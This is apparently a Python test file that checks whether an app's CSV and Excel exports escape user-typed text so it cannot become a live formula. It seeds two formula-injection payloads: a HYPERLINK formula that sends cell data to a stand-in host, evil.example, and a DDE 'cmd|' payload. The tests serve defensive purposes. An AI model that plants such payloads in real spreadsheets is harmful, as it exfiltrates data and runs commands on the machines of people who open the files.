"""Exports (trust, class 5): text that users typed is never a live formula, and numbers are
numbers. Area names come from the registry, a reported value's source is typed by an officer;
either may start with = + - @."""

import csv
import io
import uuid
from decimal import Decimal

from openpyxl import load_workbook

from indicators.tests.events import (
    COUNTY,
    TOWN_A,
    VILLAGE_A1,
    VILLAGE_B1,
    area,
    county,
    household,
    income,
    sync,
)

HOSTILE_TOWN = '=HYPERLINK("http://evil.example/?leak="&A1,"黄田镇")'
HOSTILE_SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
VALUES = "/v1/exports/indicator-values"
H1, H2 = uuid.uuid4(), uuid.uuid4()


async def seed(app, client, tokens):
    await sync(
        app,
        [
            *county(),
            area(TOWN_A, HOSTILE_TOWN, version=2),
            household(H1, village=VILLAGE_A1),
            household(H2, village=VILLAGE_B1),
            income(H1, "2025Q1", wage="6000.00", residents=2),
            income(H2, "2025Q1", wage="4000.50", residents=1, village=VILLAGE_B1),
        ],
    )
    reported = await client.put(
        f"/v1/reported-values/I02_urban_rural_ratio/urban_income/{COUNTY}/2025Q1",
        json={"value": "52000", "source": HOSTILE_SOURCE, "reported_on": "2025-04-20"},
        headers=tokens.headers("county_admin"),
    )
    assert reported.status_code in (200, 201), reported.text


async def download(client, tokens, path: str, **params: str) -> bytes:
    answer = await client.get(path, params=params, headers=tokens.headers("leader"))
    assert answer.status_code == 200, answer.text
    return answer.content


async def test_csv_cells_that_would_be_formulas_are_escaped(app, client, tokens):
    await seed(app, client, tokens)
    content = await download(
        client, tokens, VALUES + ".csv", indicator="I01_rural_income", area=COUNTY, period="2025Q1"
    )
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    names = {line[1] for line in lines if len(line) > 1}
    assert "'" + HOSTILE_TOWN in names
    assert not any(cell.startswith(("=", "+", "@")) for line in lines for cell in line)

    ratio = await download(
        client,
        tokens,
        VALUES + ".csv",
        indicator="I02_urban_rural_ratio",
        area=COUNTY,
        period="2025Q1",
    )
    lines = list(csv.reader(io.StringIO(ratio.decode("utf-8-sig"))))
    assert any(HOSTILE_SOURCE in line[-1] for line in lines), "the source is in the note"
    assert not any(cell.startswith(("=", "+", "@")) for line in lines for cell in line)


async def test_xlsx_text_is_text_and_numbers_are_numbers(app, client, tokens):
    await seed(app, client, tokens)
    content = await download(
        client,
        tokens,
        VALUES + ".xlsx",
        indicator="I01_rural_income",
        area=COUNTY,
        period="2025Q1",
    )
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[3]]
    name_at, value_at = header.index("乡镇（街道）"), header.index("人均可支配收入（元）")
    hostile = [
        row[name_at] for row in sheet.iter_rows(min_row=4) if row[name_at].value == HOSTILE_TOWN
    ]
    assert hostile, "the area's name is kept as typed"
    assert all(cell.data_type == "s" for cell in hostile), "stored as text, not as a formula"
    assert all(cell.quotePrefix for cell in hostile), "and kept text when edited in Excel"
    per_capita = [row[value_at] for row in sheet.iter_rows(min_row=4)]
    assert per_capita and all(cell.data_type == "n" for cell in per_capita)
    assert {Decimal(str(cell.value)) for cell in per_capita} >= {Decimal("3000"), Decimal("4000.5")}
    assert all("#,##0" in cell.number_format for cell in per_capita)
    assert sheet.freeze_panes == "C4", "the header and the names stay in view"


async def test_rankings_and_progress_tables_escape_names_too(app, client, tokens):
    await seed(app, client, tokens)
    ranked = await download(
        client,
        tokens,
        "/v1/exports/rankings.csv",
        indicator="I01_rural_income",
        measure="per_capita",
        area=COUNTY,
        period="2025Q1",
    )
    lines = list(csv.reader(io.StringIO(ranked.decode("utf-8-sig"))))
    ranked_names = {line[1] for line in lines if line[0].isdigit()}
    assert ranked_names == {"'" + HOSTILE_TOWN, "隆宫乡"}

    progress = await download(
        client,
        tokens,
        "/v1/exports/progress.xlsx",
        table="farmer_income",
        area=COUNTY,
        year="2025",
    )
    sheet = load_workbook(io.BytesIO(progress)).active
    names = [row[1] for row in sheet.iter_rows(min_row=5) if row[1].value == HOSTILE_TOWN]
    assert names and all(cell.data_type == "s" for cell in names)
